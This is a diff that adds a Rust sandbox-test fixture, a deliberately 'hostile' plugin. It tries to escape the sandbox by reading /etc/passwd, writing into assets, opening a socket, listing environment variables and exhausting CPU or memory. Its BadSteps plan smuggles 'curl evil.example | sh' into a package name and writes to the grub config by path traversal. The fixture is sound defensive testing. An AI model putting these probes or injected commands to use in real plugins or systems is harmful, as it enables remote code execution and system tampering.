@@ -1,0 +1,98 @@
+//! A hostile plugin for the sandbox tests. Each `attack` option tries one
+//! thing a plugin must not be able to do and reports, as a diagnostic, what
+//! happened: `hostile.escaped` if the attack worked, `hostile.denied` if the
+//! sandbox stopped it. Attacks that the host must kill (CPU, memory) never
+//! return.
+
+use openfactory_plugin_sdk::prelude::*;
+
+#[derive(Debug, Default, Deserialize, JsonSchema, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+pub enum Attack {
+    #[default]
+    None,
+    Loop,
+    Memory,
+    Panic,
+    ReadHostFile,
+    WriteAssets,
+    Socket,
+    Environment,
+    BadSteps,
+    ReadAssets,
+}
+
+#[derive(Debug, Default, Deserialize, JsonSchema)]
+#[serde(default, deny_unknown_fields)]
+pub struct Options {
+    /// What to try.
+    pub attack: Attack,
+}
+
+pub struct Hostile;
+
+fn outcome(escaped: bool, what: &str, detail: String) -> Vec<Diagnostic> {
+    if escaped {
+        vec![diag::error("hostile.escaped", "options.attack", format!("{what}: {detail}"))]
+    } else {
+        vec![diag::warning("hostile.denied", "options.attack", format!("{what}: {detail}"))]
+    }
+}
+
+impl Feature for Hostile {
+    type Options = Options;
+
+    fn info() -> Info {
+        Info::new("hostile", env!("CARGO_PKG_VERSION"), "Sandbox test fixture", "testing")
+    }
+
+    fn validate(ctx: &Context<Options>) -> Vec<Diagnostic> {
+        match ctx.options.attack {
+            Attack::None | Attack::BadSteps => Vec::new(),
+            Attack::Loop => {
+                let mut x: u64 = 0;
+                loop {
+                    x = std::hint::black_box(x.wrapping_add(1));
+                }
+            }
+            Attack::Memory => {
+                let big: Vec<u8> = vec![1; 1 << 30];
+                outcome(true, "allocated 1 GiB", big.len().to_string())
+            }
+            Attack::Panic => panic!("the plugin panicked on purpose"),
+            Attack::ReadHostFile => match std::fs::read_to_string("/etc/passwd") {
+                Ok(text) => outcome(true, "read /etc/passwd", format!("{} bytes", text.len())),
+                Err(e) => outcome(false, "read /etc/passwd", e.to_string()),
+            },
+            Attack::ReadAssets => match std::fs::read_to_string("/assets/secret.txt") {
+                Ok(text) => outcome(false, "read own asset", text.trim().to_owned()),
+                Err(e) => outcome(true, "could not read own asset", e.to_string()),
+            },
+            Attack::WriteAssets => match std::fs::write("/assets/planted", "x") {
+                Ok(()) => outcome(true, "wrote into /assets", String::new()),
+                Err(e) => outcome(false, "write into /assets", e.to_string()),
+            },
+            Attack::Socket => match std::net::TcpStream::connect("127.0.0.1:22") {
+                Ok(_) => outcome(true, "opened a TCP connection", String::new()),
+                Err(e) => outcome(false, "open a TCP connection", e.to_string()),
+            },
+            Attack::Environment => {
+                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
+                outcome(!vars.is_empty(), "environment variables", format!("{} visible", vars.len()))
+            }
+        }
+    }
+
+    fn plan(ctx: &Context<Options>) -> Result<Vec<Step>, Vec<Diagnostic>> {
+        if ctx.options.attack == Attack::BadSteps {
+            return Ok(vec![
+                step::install(&["vim; curl evil.example | sh"]),
+                step::write_file("/etc/../boot/grub/grub.cfg", "pwned"),
+                step::run("escape", &["sh -c 'id'"]),
+            ]);
+        }
+        Ok(vec![step::write_file("/etc/hostile-was-here", "harmless\n")])
+    }
+}
+
+export_feature!(Hostile);
